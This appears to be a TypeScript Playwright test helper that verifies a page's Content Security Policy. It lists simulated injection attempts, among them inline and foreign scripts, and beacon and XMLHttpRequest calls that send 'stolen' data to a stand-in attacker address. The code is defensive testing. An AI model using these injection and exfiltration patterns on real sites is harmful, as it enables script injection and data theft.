/** What a page that was got at would try, and how to see whether its content policy stepped in. */
import type { Page } from '@playwright/test';

export interface Kind {
  readonly what: string;
  /** The directive that the browser must name. */
  readonly by: RegExp;
  /** Runs in our page; `foreign` is an address of the attacker's site. Sets `window.wasForeign` where it gets through. */
  readonly attack: (foreign: string) => unknown;
}

export const KINDS: readonly Kind[] = [
  {
    what: 'an inline script',
    by: /^script-src/,
    attack: () => {
      const script = document.createElement('script');
      script.textContent = 'window.wasForeign = true';
      document.body.append(script);
    },
  },
  {
    what: 'an inline event handler',
    by: /^script-src/,
    attack: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.wasForeign = true');
      document.body.append(button);
      button.click();
    },
  },
  {
    what: 'a javascript: link',
    by: /^script-src/,
    attack: () => {
      const link = document.createElement('a');
      link.href = 'javascript:void(window.wasForeign = true)';
      document.body.append(link);
      link.click();
    },
  },
  {
    what: 'a foreign script',
    by: /^script-src/,
    attack: foreign => document.body.append(Object.assign(document.createElement('script'), { src: foreign })),
  },
  {
    what: 'a data: script',
    by: /^script-src/,
    attack: () => {
      const src = 'data:text/javascript,window.wasForeign=true';
      document.body.append(Object.assign(document.createElement('script'), { src }));
    },
  },
  {
    what: 'a blob: script',
    by: /^script-src/,
    attack: () => {
      const src = URL.createObjectURL(new Blob(['window.wasForeign = true'], { type: 'text/javascript' }));
      document.body.append(Object.assign(document.createElement('script'), { src }));
    },
  },
  {
    what: 'a foreign module',
    by: /^script-src/,
    attack: foreign =>
      document.body.append(Object.assign(document.createElement('script'), { type: 'module', src: foreign })),
  },
  {
    what: 'a foreign image',
    by: /^img-src/,
    attack: foreign => document.body.append(Object.assign(new Image(), { src: foreign })),
  },
  {
    what: 'a foreign fetch',
    by: /^connect-src/,
    attack: foreign => fetch(foreign, { mode: 'no-cors' }).catch(() => undefined),
  },
  { what: 'a foreign beacon', by: /^connect-src/, attack: foreign => navigator.sendBeacon(foreign, 'stolen') },
  {
    what: 'a foreign XMLHttpRequest',
    by: /^connect-src/,
    attack: foreign => {
      const request = new XMLHttpRequest();
      request.open('POST', foreign);
      request.send('stolen');
    },
  },
  { what: 'a foreign event source', by: /^connect-src/, attack: foreign => void new EventSource(foreign) },
  {
    what: 'a foreign WebSocket',
    by: /^connect-src/,
    attack: foreign => void new WebSocket(foreign.replace('http:', 'ws:')),
  },
  {
    what: 'a foreign frame',
    by: /^(frame|default)-src/,
    attack: foreign => document.body.append(Object.assign(document.createElement('iframe'), { src: foreign })),
  },
  {
    what: 'a frame of our own page',
    by: /^(frame|default)-src/,
    attack: () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' })),
  },
  {
    what: 'a plug-in object',
    by: /^(object|default)-src/,
    attack: foreign => document.body.append(Object.assign(document.createElement('object'), { data: foreign })),
  },
  {
    what: 'an embedded document',
    by: /^(object|default)-src/,
    attack: foreign => document.body.append(Object.assign(document.createElement('embed'), { src: foreign })),
  },
  {
    what: 'a blob: worker',
    by: /^(worker|script)-src/,
    attack: () => void new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))),
  },
  {
    what: 'a foreign style sheet',
    by: /^style-src/,
    attack: foreign =>
      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: foreign })),
  },
  {
    what: 'an inline style sheet',
    by: /^style-src/,
    attack: foreign =>
      document.head.append(
        Object.assign(document.createElement('style'), { textContent: `body{background:url(${foreign})}` }),
      ),
  },
  {
    what: 'an inline style attribute',
    by: /^style-src/,
    attack: foreign => document.body.setAttribute('style', `background:url(${foreign})`),
  },
  {
    what: 'a foreign font',
    by: /^font-src/,
    attack: foreign => new FontFace('stolen', `url(${foreign})`).load().catch(() => undefined),
  },
  {
    what: 'a foreign film',
    by: /^(media|default)-src/,
    attack: foreign => document.body.append(Object.assign(document.createElement('video'), { src: foreign })),
  },
  {
    what: 'another base for every address',
    by: /^base-uri/,
    attack: foreign => document.head.append(Object.assign(document.createElement('base'), { href: foreign })),
  },
  {
    what: 'a form to a foreign site',
    by: /^form-action/,
    attack: foreign => {
      const form = Object.assign(document.createElement('form'), { action: foreign, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  {
    what: 'a form to our own host',
    by: /^form-action/,
    attack: () => {
      const form = Object.assign(document.createElement('form'), { action: '/host/portal.signOut', method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
];

/** Subtle: the debugger may evaluate whatever it likes, so text is turned into code a moment later, when it looks away. */
export const EVALUATIONS = {
  eval: 'globalThis.eval("1")',
  'new Function': 'new Function("return 1")',
  'a timer with text': 'setTimeout("globalThis.wasForeign = true", 0)',
  'a module of WebAssembly': 'new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))',
  'an asynchronous function of text': '(async () => {}).constructor("return 1")',
} as const;

/** Runs this in our page; answers the directive of the policy that stepped in, or that none did. */
export function refusedBy(window: Page, code: string): Promise<string> {
  return window.evaluate<string>(`new Promise(resolve => {
    document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
    setTimeout(resolve, 3000, 'nothing refused it');
    ${code};
  })`);
}
